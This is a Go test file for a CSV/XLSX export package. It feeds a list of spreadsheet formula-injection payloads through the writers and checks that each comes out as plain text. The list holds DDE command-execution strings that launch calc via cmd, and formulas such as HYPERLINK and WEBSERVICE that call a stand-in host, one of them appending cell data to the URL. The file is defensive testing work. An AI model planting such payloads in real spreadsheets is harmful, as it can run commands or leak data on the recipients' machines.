package export

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
)

// payloads are texts by which people have made spreadsheets run something.
var payloads = strings.Split(strings.TrimSuffix(`=1+1
=SUM(A1:A9)
=cmd|' /C calc'!A0
=HYPERLINK("http://x.test?"&A1,"bấm")
=WEBSERVICE("http://x.test")
=IMPORTXML("http://x.test","//a")
=DDE("cmd";"/C calc";"x")
=@SUM(1)
=-1
=+1
==1
="a"
='a'
+1+1
+cmd|' /C calc'!A0
+SUM(A1)
+84912345678
++1
-1+1
-cmd|' /C calc'!A0
-5
-0.5
-SUM(A1)
--1
@SUM(1+1)
@A1
@@
@cmd|' /C calc'!A0
＝1+1
＝SUM(A1)
＋1+1
－1+1
＠SUM(1)
 =1+1
   +1
 -1
 @A1
"=1+1"
"+1
"-1
"@A1
'=1+1
''=1
'+1
“=1+1”
‘=1’
 　=1+1
;=1+1
,=1+1
","=1+1
a";=1+1;"
%0A=1+1
|calc
=1,"2";3
=_x0041_
_x000D_=1
_x003D_1+1
=A1&"
=NOW()
=2^10`, "\n"), "\n")

// more need characters that a line of text has no room for.
var more = []string{"\t=1+1", "\r=1+1", "\n=1+1", "\t\t@A1", "\r\n=1", "dòng một\r\n=1+1", "a\tb", "\ufeff=1", "\u00a0=1", "\u200b=1", "<b>&amp;</b>", "Nguyễn Thị Hường", "Đặng Ánh Tuyết 🌾", "Đồng Ánh"}

// dangerous is written apart from the code under test: the first sign that is neither blank nor quote.
func dangerous(s string) bool {
	s = strings.TrimLeft(s, " \u00a0\u3000\u200b\ufeff\"'“‘")
	r, _ := utf8.DecodeRuneInString(s)
	return s != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", r)
}

func textTable() *table {
	t := &table{name: "t"}
	t.add("/a", "a", asText)
	t.add("/b", "b", computed)
	t.add("/c", "c", asNumber)
	return t
}

func TestCSV_NoTextIsAFormula(t *testing.T) {
	all := append(append([]string{}, payloads...), more...)
	equal(t, "payloads", len(payloads), 60)
	var out bytes.Buffer
	c := newCSV(&out, textTable())
	for _, p := range all {
		ok(t, c.row([]string{p, p, p}))
	}
	ok(t, c.flush())
	text := strings.TrimPrefix(out.String(), bom)
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	ok(t, err)
	for i, p := range all {
		for k, got := range rows[i+1] {
			number := k > 0 && (p == "-5" || p == "-0.5" || p == "+84912345678")
			if back, marked := strings.CutPrefix(got, "'"); dangerous(p) && !number {
				equal(t, "marked "+p, marked, true)
				got = back
			}
			equal(t, "text", got, strings.ReplaceAll(p, "\r\n", "\n")) // the reader makes one of the two
		}
	}
}

func TestXLSX_TextsAreTexts(t *testing.T) {
	all := append(append([]string{}, payloads...), more...)
	var out bytes.Buffer
	set := &Set{tables: []table{*textTable()}}
	z := zip.NewWriter(&out)
	ok(t, bookParts(z, []string{set.tables[0].name}))
	part, err := z.CreateHeader(sheetHeader(0))
	ok(t, err)
	sheet := newSheet(part, &set.tables[0])
	for _, p := range all {
		ok(t, sheet.row([]string{p, p, p}))
	}
	ok(t, sheet.close())
	ok(t, z.Close())
	f, err := excelize.OpenReader(&out)
	ok(t, err)
	for i, p := range all {
		for k, col := range []string{"A", "B", "C"} {
			at, _ := excelize.JoinCellName(col, i+2)
			formula, err := f.GetCellFormula("t", at)
			ok(t, err)
			equal(t, "formula of "+p, formula, "")
			kind, err := f.GetCellType("t", at)
			ok(t, err)
			want := excelize.CellTypeInlineString
			if k > 0 && (p == "-5" || p == "-0.5") {
				want = excelize.CellTypeUnset // a number
			}
			equal(t, "type of "+p, kind, want)
			got, err := f.GetCellValue("t", at)
			ok(t, err)
			equal(t, "text", strings.ReplaceAll(got, "_x005F_", "_"), p) // excelize leaves the mark of ECMA-376 §22.9.2.19 in
		}
	}
}

func TestCell_Kinds(t *testing.T) {
	for _, c := range []struct {
		k    kind
		v    string
		want string
		how  int
	}{
		{asText, "012345678901", "012345678901", styleText}, {asText, "5", "5", styleText},
		{asNumber, "5", "5", styleNumber}, {asNumber, "-2.5", "-2.5", styleNumber}, {asNumber, "0", "0", styleNumber}, {asNumber, "khác", "khác", styleText},
		{asNumber, "999999999999999", "999999999999999", styleNumber}, {asNumber, "9999999999999999", "9999999999999999", styleText},
		{asNumber, "99999999999999999999", "99999999999999999999", styleText}, {asNumber, "0.1234567890123456789", "0.1234567890123456789", styleText},
		{computed, "25.333333333333332", "25.333333333333332", styleNumber}, {computed, "05", "05", styleText}, {computed, "0.5", "0.5", styleNumber},
		{computed, "-7", "-7", styleNumber}, {computed, "1e5", "1e5", styleText}, {computed, "NaN", "NaN", styleText},
		{computed, "2025-09-14", "2025-09-14", styleText}, {computed, "+5", "+5", styleText}, {computed, "-", "-", styleText},
		{asDate, "2025-09-14", "45914", styleDate}, {asDate, "1900-03-01", "61", styleDate},
		{asDate, "1900-02-28", "1900-02-28", styleText}, {asDate, "1899-01-01", "1899-01-01", styleText}, {asDate, "2025-13-01", "2025-13-01", styleText},
	} {
		got, how := cellOf(c.k, c.v)
		equal(t, c.v, got, c.want)
		equal(t, "style of "+c.v, how, c.how)
	}
}

func TestBook_NamesOfSheets(t *testing.T) {
	var taken []string
	long := strings.Repeat("đ", 40)
	for i, want := range []string{"tv", "TV~2", "a_b", strings.Repeat("đ", 31), strings.Repeat("đ", 29) + "~2", "bang5"} {
		name := freeName([]string{"tv", "TV", "a/b", long, long, ""}[i], i, taken)
		equal(t, "name", name, want)
		taken = append(taken, name)
	}
}

func TestColumnName(t *testing.T) {
	for i, want := range map[int]string{0: "A", 25: "Z", 26: "AA", 51: "AZ", 52: "BA", 701: "ZZ", 702: "AAA", 16383: "XFD"} {
		equal(t, "column", columnName(i), want)
	}
}

func TestEscapeXML(t *testing.T) {
	for in, want := range map[string]string{"a<b>&\"c": "a&lt;b&gt;&amp;&quot;c", "x\ry": "x&#13;y", "\x00\x1b": "\ufffd\ufffd", "ngô\tđỗ\n": "ngô\tđỗ\n", "\xff": "\ufffd"} {
		var b bytes.Buffer
		EscapeXML(&b, in)
		equal(t, in, b.String(), want)
	}
}
